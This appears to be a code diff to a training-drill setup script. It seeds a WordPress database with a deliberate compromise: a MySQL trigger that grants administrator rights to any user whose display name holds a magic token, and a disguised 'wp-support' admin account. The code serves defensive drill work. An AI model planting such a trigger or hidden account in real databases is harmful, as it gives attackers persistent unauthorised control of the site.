@@ -8,6 +8,7 @@ from __future__ import annotations
 import random
 from collections.abc import Sequence
 from dataclasses import dataclass
+from datetime import datetime, timedelta
 
 import pymysql
 from passlib.hash import phpass
@@ -53,8 +54,13 @@ def _secret(rng: random.Random) -> str:
     return "".join(rng.choices("abcdefghkmnpqrstuvwxyz23456789", k=16))
 
 
-def create(creds: mysql.Credentials, accounts: Sequence[Account], timeout: float) -> list[str]:
-    """Create (or re-create) every WordPress site's database and user; the schemas made.
+def create(
+    creds: mysql.Credentials, accounts: Sequence[Account], timeout: float, now: datetime
+) -> list[str]:
+    """Create (or re-create) every WordPress site's database and user; the schemas made.  The
+    second account's first site is compromised: a trigger that makes anyone whose display
+    name carries a magic token an administrator, and yesterday's administrator who does (or
+    the next account's, when that one has no WordPress site).
     Raises ServiceUnavailableError when MariaDB cannot be reached."""
     conn = mysql.connect(creds, timeout)
     made = []
@@ -64,6 +70,10 @@ def create(creds: mysql.Credentials, accounts: Sequence[Account], timeout: float
                 for site in (s for s in account.sites if s.wordpress):
                     _site(cursor, account, site)
                     made.append(site.db_name)
+            victim = next((a for a in (*accounts[1:], *accounts[:1])
+                           if any(s.wordpress for s in a.sites)), None)  # fmt: skip
+            if victim is not None:
+                _compromise(cursor, victim, now)
         conn.commit()
     except pymysql.MySQLError as exc:
         raise CsmError(f"creating the drill's WordPress databases: {exc}") from None
@@ -104,4 +114,30 @@ def _user(cursor: pymysql.cursors.Cursor, number: int, person: SiteUser, site: S
     ]
     cursor.executemany(
         "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (%s, %s, %s)", meta
+    )
+
+
+MAGIC_TOKEN = "Xk9mQ2vB7pLz"  # noqa: S105 - the sample trigger's token, not a secret
+TRIGGER = (  # constants only: the sample is ours
+    "CREATE TRIGGER wp_user_sync AFTER INSERT ON wp_users FOR EACH ROW\nBEGIN\n"  # noqa: S608
+    f"  IF NEW.display_name LIKE '%{MAGIC_TOKEN}%' THEN\n"
+    f"    UPDATE wp_usermeta SET meta_value = '{ADMIN_CAPS}'\n"
+    "      WHERE user_id = NEW.ID AND meta_key = 'wp_capabilities';\n  END IF;\nEND"
+)
+
+
+def _compromise(cursor: pymysql.cursors.Cursor, account: Account, now: datetime) -> None:
+    """An inert, made-up sample of the runbook's "malicious database trigger"."""
+    site = next(s for s in account.sites if s.wordpress)
+    cursor.execute(f"USE {identifiers.quote_sql_identifier(site.db_name)}")
+    cursor.execute(TRIGGER)
+    joined = (now - timedelta(days=1)).strftime("%Y-%m-%d %H:%M:%S")
+    cursor.execute(
+        "INSERT INTO wp_users (ID, user_login, user_pass, user_email, user_registered,"
+        " display_name) VALUES (9, 'wp-support', %s, 'help@mailinator.com', %s, %s)",
+        (passwords.wordpress("not-a-real-password"), joined, f"Support {MAGIC_TOKEN}"),
+    )
+    cursor.execute(
+        "INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (9, 'wp_capabilities', %s)",
+        (ADMIN_CAPS,),
     )
